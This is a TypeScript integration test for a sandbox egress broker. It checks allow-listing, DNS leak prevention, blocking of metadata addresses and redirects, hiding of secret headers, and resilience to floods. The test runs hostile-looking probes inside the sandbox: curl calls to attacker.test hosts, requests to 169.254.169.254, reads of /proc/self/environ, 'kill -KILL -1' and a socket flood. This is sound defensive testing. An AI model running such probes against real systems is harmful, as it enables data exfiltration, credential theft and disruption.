/** A box whose network the broker carries: what it reaches, and what it does not (box §10.6, security §5). */
import { createSocket } from "node:dgram";
import { Resolver } from "node:dns/promises";
import { createServer as createWebServer } from "node:http";
import { networkInterfaces } from "node:os";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { BoxdHelper } from "../../src/adapters/boxd/boxd-helper.js";
import { HttpEgressBroker } from "../../src/adapters/egress/http-egress-broker.js";
import { SystemClock } from "../../src/adapters/system/system-clock.js";
import { EgressRules } from "../../src/domain/egress-rules.js";
import type { BoxPlace } from "../../src/ports/box-backend.js";
import type { BoxHandle } from "../../src/ports/box-handle.js";
import { run } from "../contracts/box-backend.js";
import { KeptLogger } from "../fakes/kept-logger.js";
import { HELPER_IMAGE, hasEngine, TestEngine } from "../support/engine.js";
import { proves } from "../support/proves.js";

const SECRET = "tok-fedcba9876543210";
const CURL = "curl -sS -m 10";

/** What the service could reach on every address of this machine, and who asked for what. */
class Outside {
  readonly queries: string[] = [];
  readonly requests: string[] = [];
  port = 0;
  dnsPort = 0;
  readonly #web = createWebServer((request, response) => {
    this.requests.push(`${request.headers.host} ${request.url} ${String(request.headers["x-key"] ?? "-")}`);
    if (request.url === "/away") response.writeHead(302, { location: "http://169.254.169.254/" });
    response.end(`hello ${String(request.headers["x-key"] ?? "stranger")}`);
  });
  readonly #dns = createSocket("udp4");

  async listen(): Promise<void> {
    this.#dns.on("message", (query, { port, address }) => {
      const { name, answer } = answerQuery(query);
      this.queries.push(name);
      this.#dns.send(answer, port, address);
    });
    await new Promise<void>((resolve) => {
      this.#dns.bind(0, "127.0.0.1", resolve);
    });
    await new Promise<void>((resolve) => {
      this.#web.listen(0, "0.0.0.0", resolve);
    });
    const address = this.#web.address();
    this.port = typeof address === "object" && address !== null ? address.port : 0;
    this.dnsPort = this.#dns.address().port;
  }

  /** Asks the name server of the test. */
  async resolve(name: string): Promise<readonly string[]> {
    const resolver = new Resolver({ timeout: 2000, tries: 1 });
    resolver.setServers([`127.0.0.1:${this.dnsPort}`]);
    return resolver.resolve4(name);
  }

  async close(): Promise<void> {
    this.#web.closeAllConnections();
    await new Promise((resolve) => {
      this.#web.close(resolve);
    });
    await new Promise<void>((resolve) => {
      this.#dns.close(() => resolve());
    });
  }
}

/** 127.0.0.1 for every name. */
function answerQuery(query: Buffer): { readonly name: string; readonly answer: Buffer } {
  const labels: string[] = [];
  let at = 12;
  for (let length = query[at] ?? 0; length > 0; length = query[at] ?? 0) {
    labels.push(query.toString("latin1", at + 1, at + 1 + length));
    at += 1 + length;
  }
  const question = query.subarray(12, at + 5);
  const head = Buffer.from([query[0] ?? 0, query[1] ?? 0, 0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0]);
  const record = Buffer.from([0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 1, 0, 4, 127, 0, 0, 1]);
  return { name: labels.join("."), answer: Buffer.concat([head, question, record]) };
}

describe.skipIf(!hasEngine())("a box with a network", () => {
  const outside = new Outside();
  const logger = new KeptLogger();
  let engine: TestEngine;
  let place: BoxPlace;
  let box: BoxHandle;

  beforeAll(async () => {
    await outside.listen();
    const clock = new SystemClock();
    const { port } = outside;
    const resolve = async (name: string): Promise<readonly string[]> => outside.resolve(name);
    const broker = new HttpEgressBroker({
      rules: new EgressRules({
        allowHosts: ["public.test", `rebind.test:${port}`],
        privateHosts: [`files.test:${port}`, `api.test:${port}`],
      }),
      limits: { maxConnections: 8, maxBytesPerHour: 1e9, connectionMs: 60_000, idleMs: 30_000 },
      secretHeaders: [{ host: `api.test:${port}`, header: "X-Key", value: SECRET }],
      logger,
      clock,
      resolvers: { anyName: resolve, listedName: resolve },
    });
    engine = new TestEngine("helper", new BoxdHelper({ image: HELPER_IMAGE, clock, logger, broker }));
    ({ place, box } = await engine.startBox({ network: "broker" }));
  });
  afterAll(async () => {
    await box[Symbol.asyncDispose]();
    await engine[Symbol.asyncDispose]();
    await outside.close();
  });

  const shell = async (text: string): Promise<string> => {
    const { stdout, stderr } = await run(box, ["sh", "-c", text]);
    return `${stdout}${stderr}`;
  };

  it("reaches a listed host by what its programs find in their environment, and has no interface for it", async () => {
    const url = `http://files.test:${outside.port}`;
    expect(await shell(`${CURL} ${url}/a`)).toBe("hello stranger");
    expect(await shell(`${CURL} --proxytunnel ${url}/b`)).toBe("hello stranger");
    const python = `import urllib.request; print(urllib.request.urlopen("${url}/c").read().decode())`;
    expect(await shell(`python3 -c '${python}'`)).toBe("hello stranger\n");
    expect(await shell("ls /sys/class/net; cat /proc/net/route | wc -l")).toBe("lo\n1\n");
    const { HostConfig: host } = await engine.docker.getContainer(place.container).inspect();
    expect(host.NetworkMode).toBe("none");
    expect(logger.lines.map(({ fields }) => fields)).toContainEqual(
      expect.objectContaining({ sessionId: place.sessionId, method: "CONNECT", host: "files.test" }),
    );
  });

  it("asks no name server for a name that is not on the list", async () => {
    proves("ISO-14");
    const before = outside.queries.length;
    await shell("getent hosts secret.attacker.test");
    await shell(`${CURL} http://secret.attacker.test/; ${CURL} https://other.attacker.test/`);
    await shell(`${CURL} http://data.public.test.attacker.test/; ${CURL} http://xpublic.test/`);
    expect(outside.queries.slice(before)).toEqual([]);
    await shell(`${CURL} http://files.test:${outside.port}/d`);
    expect(outside.queries.slice(before)).toEqual(["files.test"]);
  });

  it("reaches neither another box, nor the host, nor the service, nor a metadata address, by no way", async () => {
    proves("ISO-13", "ISO-15");
    const { port } = outside;
    const { box: other } = await engine.startBox({ network: "broker" });
    await run(other, ["sh", "-c", "python3 -m http.server 8000 & sleep 0.5"]);
    const own = Object.values(networkInterfaces()).flatMap((all) =>
      (all ?? []).filter(({ family }) => family === "IPv4").map(({ address }) => address),
    );
    const hosts = [
      ...new Set([...own, "172.17.0.1", "172.17.0.2", "172.17.0.3", "169.254.169.254", "localhost"]),
    ];
    const before = outside.requests.length;
    const direct = hosts.map(
      (host) => `curl -s -m 2 --noproxy '*' http://${host}:${port}/ http://${host}:8000/`,
    );
    const proxied = hosts.flatMap((host) => [
      `curl -s -m 5 -x $http_proxy --noproxy '' -o /dev/null -w '%{http_code} ' http://${host}:${port}/`,
      `curl -s -m 5 -x $http_proxy --noproxy '' -o /dev/null -w '%{http_code} ' http://${host}/latest/meta-data/`,
      `curl -s -m 5 -x $http_proxy --noproxy '' -p -o /dev/null -w '%{http_connect} ' http://${host}:443/`,
    ]);
    expect(await shell(direct.join("; "))).toBe("");
    const answers = (await shell(proxied.join("; "))).trim().split(" ");
    expect(new Set(answers)).toEqual(new Set(["403"]));
    expect(answers).toHaveLength(hosts.length * 3);
    expect(outside.requests.slice(before)).toEqual([]);
    await other[Symbol.asyncDispose]();
  }, 60_000);

  it("follows no redirect and no name to a private address", async () => {
    const before = outside.requests.length;
    const code = `${CURL} -L -o /dev/null -w '%{http_code}'`;
    expect(await shell(`${code} http://files.test:${outside.port}/away`)).toBe("403");
    expect(await shell(`${code} http://rebind.test:${outside.port}/`)).toBe("403");
    expect(outside.requests.slice(before)).toEqual([`files.test:${outside.port} /away -`]);
  });

  it("gets what a secret header opens, and never the secret", async () => {
    const shown = await shell(`${CURL} -i http://api.test:${outside.port}/e; env; cat /proc/self/environ`);
    expect(outside.requests.at(-1)).toBe(`api.test:${outside.port} /e ${SECRET}`);
    expect(shown).toContain("hello [redacted]");
    expect(shown).not.toContain(SECRET);
    expect(logger.text()).not.toContain(SECRET);
  });

  it("waits with connections above its number, and survives a flood of them", async () => {
    const flood = `
import os, socket, urllib.request
port = int(os.environ["http_proxy"].rsplit(":", 1)[1])
held = [socket.create_connection(("127.0.0.1", port)) for _ in range(40)]
for one in held: one.close()
for _ in range(100):
    one = socket.create_connection(("127.0.0.1", port)); one.send(b"GET"); one.close()
print(urllib.request.urlopen("http://files.test:${outside.port}/f").read().decode())
`;
    const { stdout } = await run(box, ["python3", "-c", flood]);
    expect(stdout).toBe("hello stranger\n");
  }, 60_000);

  it("has its network again after its helper was killed", async () => {
    await shell("kill -KILL -1").catch(() => "");
    expect(await shell("echo $http_proxy")).toBe("http://127.0.0.1:3128\n");
    expect(await shell(`${CURL} http://files.test:${outside.port}/g`)).toBe("hello stranger");
  }, 60_000);

  it("is refused where no helper can hold it to its list", async () => {
    await using plain = new TestEngine("engine");
    await expect(plain.startBox({ network: "broker" })).rejects.toMatchObject({ code: "box.readiness" });
  });
});
